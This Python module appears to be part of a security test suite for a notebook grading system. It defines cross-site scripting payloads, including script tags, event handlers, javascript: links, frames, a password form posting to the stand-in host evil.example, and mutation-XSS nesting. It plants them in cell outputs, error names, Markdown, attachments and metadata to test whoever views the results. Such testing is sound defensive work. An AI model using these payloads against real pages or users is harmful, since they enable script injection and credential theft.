"""Attacks on whoever looks at the results: script and loads in outputs, errors and names."""

from __future__ import annotations

import base64
from typing import Any

from attack import NUMPY, STOCK, Attack, plain

EVIL = "evil.example"
"""The host that every load goes to."""
HTML = f"""
<script>alert(1)</script><img src=x onerror=alert(1)><img src="//{EVIL}/a.png">
<iframe src="https://{EVIL}" srcdoc="<script>alert(1)</script>"></iframe>
<a href="javascript:alert(1)" onclick="alert(1)">x</a><svg onload=alert(1)></svg>
<object data="data:text/html,<script>alert(1)</script>"></object><embed src="//{EVIL}">
<style>body {{ background: url(//{EVIL}/x) }}</style><link rel=stylesheet href="//{EVIL}/x.css">
<meta http-equiv=refresh content="0;url=https://{EVIL}"><base href="https://{EVIL}/">
<form action="https://{EVIL}"><input name=password></form>
<div style="position:fixed;top:0">x</div><math><mtext><table><mglyph><style>
<img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
"""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>
<image href="https://{EVIL}/a.png"/><foreignObject><iframe src="//{EVIL}"/></foreignObject>
<a href="javascript:alert(1)"><text>x</text></a><use href="https://{EVIL}/x.svg#a"/>
<animate attributeName="href" values="javascript:alert(1)"/></svg>"""


def shows(name: str, tries: str, code: str, kind: str = NUMPY) -> Attack:
    """Show something in a student's cell."""
    return Attack(name, tries, kind, code=code)


def markdown_cell(notebook: dict[str, Any]) -> None:
    text = f"{HTML}\n[x](javascript:alert(1)) ![x](//{EVIL}/a.png)"
    notebook["cells"].insert(1, plain(text, "markdown"))
    notebook["cells"].insert(2, plain(HTML, "raw"))
    notebook["cells"][2]["metadata"]["raw_mimetype"] = "text/html"
    picture = base64.b64encode(SVG.encode()).decode()
    notebook["cells"][1]["attachments"] = {'x" onerror="alert(1)': {"image/svg+xml": picture}}


def strange_metadata(notebook: dict[str, Any]) -> None:
    evil = "</script><script>alert(1)</script>"
    state = {"application/vnd.jupyter.widget-state+json": {"state": {"x": evil}}}
    language = {"name": evil, "pygments_lexer": evil}
    notebook["metadata"] |= {"title": evil, "widgets": state, "language_info": language}
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = [evil, '"onload="alert(1)']


ATTACKS = [
    shows("html", "displays script, handlers, frames and loads as HTML",
          f"from IPython.display import HTML, display\ndisplay(HTML({HTML!r}))"),
    shows("svg", "displays script and loads in an SVG",
          f"from IPython.display import display\ndisplay({{'image/svg+xml': {SVG!r}}}, raw=True)"),
    shows("markdown", "displays script and loads as Markdown",
          f"from IPython.display import display\ndisplay({{'text/markdown': {HTML!r}}}, raw=True)"),
    shows("latex", "displays script and links as LaTeX", f"""
from IPython.display import Latex, display
tex = r"$\\href{{javascript:alert(1)}}{{x}} \\require{{html}} \\style{{x}}{{y}}$"
display(Latex(tex + {HTML!r}))"""),
    shows("javascript", "displays JavaScript and other kinds that pages run", f"""
from IPython.display import Javascript, IFrame, display
display(Javascript("alert(1)"), IFrame("https://{EVIL}", 1, 1))
for kind in ("application/javascript", "application/vnd.jupyter.widget-view+json", "text/html; x",
             "application/json", "image/png", "image/jpeg", "application/pdf", "text/x-evil"):
    display({{kind: {HTML!r}}}, raw=True, metadata={{kind: {{"width": '"onerror="alert(1)'}}}})"""),
    shows("printed", "prints markup, and escapes of a terminal that make markup",
          f"import sys\nprint({HTML!r})\nprint({HTML!r}, file=sys.stderr)\n"
          "print('\\x1b[31m<script>alert(1)</script>\\x1b]8;;javascript:alert(1)\\x07x\\x1b[0m')"),
    shows("error-text", "raises errors with markup in name and text",
          f"Evil = type('<img src=x onerror=alert(1)>', (Exception,), {{}})\nraise Evil({HTML!r})"),
    shows("error-in-a-test", "raises such an error within a test", f"""
Evil = type('<img src=x onerror=alert(1)>', (ValueError,), {{}})
def standardize(a, b): raise Evil({HTML!r})
def normalise(x): raise Evil({HTML!r})
primes = normalise""", STOCK),
    shows("in-a-hint", "puts markup where the checks quote a result",
          f"answer_gradient_check_step = {HTML!r}\ndef linear_backward(dy, cache):\n"
          f"    raise ValueError({HTML!r})"),
    Attack("cells", "puts markup into text cells and attachments", edit=markdown_cell, less=False),
    Attack("notebook-metadata", "puts markup into the notebook's metadata", STOCK,
           edit=strange_metadata, less=False),
    shows("data-urls", "puts pages into data: addresses, and hides a scheme", """
from IPython.display import HTML, display
for kind in ("text/html", "image/svg+xml", "application/xhtml+xml"):
    display(HTML(f'<iframe src="data:{kind},x"></iframe><a href="data:{kind},x">x</a>'))
display(HTML('<a href="&#106;avascript:alert(1)">x</a><a href="java\\nscript:alert(1)">y</a>'))"""),
    shows("large", "displays a page of megabytes, deeply nested",
          "from IPython.display import HTML, display\ndisplay(HTML('<div>' * 30000))\n"
          "svg = '<svg xmlns=\"http://www.w3.org/2000/svg\">' + '<g>' * 20000\n"
          "display({'image/svg+xml': svg}, raw=True)"),
]  # fmt: skip
